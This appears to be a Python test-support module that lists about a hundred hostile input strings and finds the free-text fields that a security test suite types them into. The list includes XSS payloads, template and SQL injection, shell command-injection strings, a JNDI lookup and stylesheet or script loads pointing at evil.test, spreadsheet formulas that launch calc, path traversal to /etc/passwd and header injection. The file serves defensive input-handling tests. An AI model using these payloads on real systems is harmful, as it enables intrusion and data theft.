"""A hundred texts that would like to be more than text, and the fields that people can type them into."""

import re
import unicodedata
from collections.abc import Iterator
from typing import Any

import msgspec
from msgspec import inspect

from sessions.activity import Move
from tests.security.making import all_moves

HACK = "window.__hacked=1"

TEXTS: tuple[str, ...] = (
    # a sample of every kind first: these are tried in every run
    f"<script>{HACK}</script>",
    f'"><img src=x onerror="{HACK}">',
    f"' autofocus onfocus='{HACK}' x='",
    f"javascript:{HACK}//",
    "{{7*7}}{% if 1 %}${7*7}",
    f"<svg onload={HACK}><title>",
    "\u202egnirts desrever\u202c\u2066x\u2069",
    '=HYPERLINK("http://evil.test";"x")',
    "../../../../etc/passwd",
    "</script></style></textarea></title>-->",
    "Z̷̗͎̭̀̂a̵̪͕̐l̸͚̈́g̶̛̘o̴̰͗",
    "👩‍👩‍👧‍👦🏳️‍🌈𝕳𓀀",
    "%s %(x)s {0} {x.__class__} %n",
    "a\x00b\x1b[31m\x7fc",
    "rad\r\nSet-Cookie: x=1\u2028ny\u2029rad",
    # scripts
    f"<ScRiPt>{HACK}</sCrIpT>",
    f"<script/x>{HACK}</script>",
    f"<<script>{HACK}//<</script>",
    f"<scr<script>ipt>{HACK}</scr</script>ipt>",
    "<script src=//evil.test/x.js></script>",
    f"<script type=module>{HACK}</script>",
    f"</script><script>{HACK}</script>",
    f'<noscript><p title="</noscript><img src=x onerror={HACK}>">',
    f"<template><script>{HACK}</script></template>",
    f"<!--><script>{HACK}</script-->",
    f"<![CDATA[<script>{HACK}</script>]]>",
    f"<?xml version='1.0'?><script>{HACK}</script>",
    # elements that do something by themselves
    f"<img src=x onerror={HACK}>",
    f"<img/src='x'/onerror={HACK}>",
    f'<IMG """><SCRIPT>{HACK}</SCRIPT>">',
    f"<image src=x onerror={HACK}>",
    f"<video><source onerror={HACK}></video>",
    f"<audio src=x onerror={HACK}>",
    f"<body onload={HACK}>",
    f"<input autofocus onfocus={HACK}>",
    f"<details open ontoggle={HACK}>x</details>",
    f"<marquee onstart={HACK}>x</marquee>",
    f"<select autofocus onfocus={HACK}><option>x",
    f"<textarea autofocus onfocus={HACK}>",
    f"<iframe srcdoc='<script>parent.{HACK}</script>'></iframe>",
    f"<iframe src=javascript:parent.{HACK}></iframe>",
    "<object data=//evil.test/x></object>",
    "<embed src=//evil.test/x>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<form action=//evil.test><button>Tryck",
    f"<a href=javascript:{HACK}>tryck</a>",
    f"<math><mtext><img src=x onerror={HACK}></mtext></math>",
    f"<dialog open onclose={HACK}>x</dialog>",
    "<plaintext>",
    # SVG
    f"<svg><script>{HACK}</script></svg>",
    f"<svg><animate onbegin={HACK} attributeName=x dur=1s>",
    f"<svg><a xlink:href=javascript:{HACK}><text y=9>x</text></a></svg>",
    f"<svg><foreignObject><img src=x onerror={HACK}></foreignObject></svg>",
    "<svg><use href=//evil.test/x.svg#x></svg>",
    "<svg><style>*{display:none}</style></svg>",
    # out of an attribute
    f'" onmouseover="{HACK}" x="',
    f"' onmouseover='{HACK}' x='",
    f"` onmouseover={HACK} x=`",
    f'" autofocus onfocus="{HACK}',
    f"x onfocus={HACK} autofocus",
    f'"><script>{HACK}</script>',
    f"'><svg onload={HACK}>",
    f'\\"><script>{HACK}</script>',
    f"&quot;><script>{HACK}</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;b&#62;fet&#60;/b&#62; &amp;amp;",
    # addresses
    f"JaVaScRiPt:{HACK}",
    f"java\tscript:{HACK}",
    f"\x01javascript:{HACK}",
    f"data:text/html,<script>{HACK}</script>",
    f"vbscript:{HACK}",
    "//evil.test/x",
    'http://evil.test/"onclick="x',
    "file:///etc/passwd",
    # templates and code
    "{{config}}{{self.__init__.__globals__}}",
    "{% include 'base.html' %}{# x #}",
    "#{7*7}<%= 7*7 %>@{7*7}",
    "${jndi:ldap://evil.test/x}",
    "__import__('os').system('x')",
    "'; DROP TABLE moves; --",
    '" OR 1=1 --',
    "$(touch /tmp/x) `id` | id; id && id",
    # style
    "<style>*{display:none!important}</style>",
    "</style><style>body{display:none}",
    "x;background:url(//evil.test/x)",
    "expression(alert(1))",
    # spreadsheets
    "=1+1",
    "+46 8 123",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    # paths and headers
    "..\\..\\windows\\system32",
    "%2e%2e%2f%00.html",
    "x\nLocation: http://evil.test\n\n<html>",
    # writing
    "\u200b\u200c\u200d\ufeffosynlig\u2060",
    "\u061c\u200f\u200eابجد abc \u2067x\u2069",
    "ﷺ﷽ 𐍈 \U000e0041\U000e007f",
    "Lång" + "ord" * 15,
    "null undefined NaN Infinity -0 1e999 true",
)
SAMPLE = TEXTS[:15]


def bare(text: str) -> str:
    """What is left of a text when marks that nobody sees and the kind of blanks do not count."""
    seen = "".join(
        c
        for c in unicodedata.normalize("NFC", text)
        if unicodedata.category(c) not in ("Cc", "Cf", "Zl", "Zp")
    )
    return re.sub(r"[\s\ufffd]+", "", seen)


def words_fields() -> Iterator[tuple[str, str, str]]:
    """(kind or "", move, field) of everything that people write."""
    for kind, name, move in all_moves():
        for field in free_texts(move):
            yield kind, name, field


def free_texts(move: type[Move]) -> list[str]:
    known = inspect.type_info(move)
    assert isinstance(known, inspect.StructType)
    return [field.encode_name for field in known.fields if _is_words(field.type)]


def _is_words(kind: inspect.Type) -> bool:
    if isinstance(kind, inspect.Metadata):
        return bool((kind.extra or {}).get("words")) or _is_words(kind.type)
    if isinstance(kind, inspect.UnionType):
        return any(map(_is_words, kind.types))
    if isinstance(kind, inspect.CollectionType):
        return _is_words(kind.item_type)
    return False


def settings_texts(settings: type[msgspec.Struct]) -> dict[str, Any]:
    """Every setting that takes any text -> how one text is put there."""
    known = inspect.type_info(settings)
    assert isinstance(known, inspect.StructType)
    return {field.encode_name: shape for field in known.fields if (shape := _shape(field.type)) is not None}


def _shape(kind: inspect.Type) -> Any:
    if isinstance(kind, inspect.Metadata):
        return _shape(kind.type)
    if isinstance(kind, inspect.StrType):
        return str
    if isinstance(kind, inspect.CollectionType) and _shape(kind.item_type) is str:
        return list
    return None


def variants(settings: type[msgspec.Struct]) -> list[dict[str, Any]]:
    """The settings' defaults, and each other choice that they offer."""
    known = inspect.type_info(settings)
    assert isinstance(known, inspect.StructType)
    others = [
        {field.encode_name: value}
        for field in known.fields
        if isinstance(field.type, inspect.LiteralType)
        for value in field.type.values
        if value != field.default
    ]
    return [{}, *others]
